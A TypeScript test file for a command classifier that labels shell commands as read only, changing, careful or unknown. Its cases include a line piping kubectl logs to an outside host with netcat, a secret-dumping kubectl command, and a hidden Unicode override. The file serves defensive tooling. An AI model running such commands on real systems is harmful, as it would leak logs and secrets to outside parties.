import assert from 'node:assert/strict';
import {test} from 'node:test';
import {judgeCommand} from '../../source/shell/command-effect.js';
import {effectWords} from '../../source/words/command.js';

test('what a command does is told in a few words, and only what reads is called read only', () => {
	const words: ReadonlyArray<readonly [command: string, words: string]> = [
		['kubectl get pods -l app=payment', 'read only'],
		['kubectl delete pod payment-1', 'changes things: changes the cluster'],
		['kubectl get secret db -o yaml', 'careful: shows secrets'],
		['kubectl logs deploy/payment | nc example.com 99', 'careful: sends data to somewhere else'],
		['./diagnose.sh', 'unknown: read before you run (runs a program that is not on the list of those that read)'],
		['psql -c "select <TOKEN_1>"', 'unknown: read before you run (what is hidden is part of it)'],
		['kubectl get <U+202E>pods', 'unknown: read before you run (what is hidden is part of it)'],
	];
	for (const [command, expected] of words) {
		assert.equal(effectWords(judgeCommand(command)), expected);
	}
});
